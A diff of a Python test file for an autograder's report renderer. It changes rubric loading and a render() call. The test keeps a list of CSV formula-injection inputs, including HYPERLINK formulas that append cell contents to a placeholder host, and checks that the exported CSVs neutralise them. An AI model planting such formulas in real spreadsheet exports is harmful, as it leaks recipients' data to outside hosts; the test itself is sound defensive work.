@@ -15,14 +15,15 @@ from pathlib import Path
 
 import pytest
 
-from autograder.course.assignment import ROOT, load_rubric
+from autograder.course.assignment import ROOT
 from autograder.course.spreadsheet import cell, starts_formula
 from autograder.reports.graded import Graded
 from autograder.reports.page import render
 from autograder.results import Confinement, Results
 from tests.course import A, add_students, make_course, nbgrader
+from tests.nb74 import NB74
 
-RUBRIC = load_rubric()
+RUBRIC = NB74.rubric
 # each formula start, as a spreadsheet would run it
 EVIL = [f'{c}HYPERLINK("http://x.invalid/"&A1)' for c in ("=", "+", "-", "@", "＝")]
 EVIL += ["\t=1+1", "\r=1+1", "\n=1+1", " =1+1"]
@@ -58,7 +59,7 @@ def test_the_class_report_tables(tmp_path: Path) -> None:
         for evil in EVIL
     ]
     out = tmp_path / "report"
-    render(cls, RUBRIC, A, "sqlite:///x", out)
+    render(cls, NB74, "sqlite:///x", out)
     written = sorted(out.glob("*.csv"))
     assert {p.name for p in written} == {"scores.csv", "diagnoses.csv", "test_failures.csv", "problems.csv"}
     for path in written:
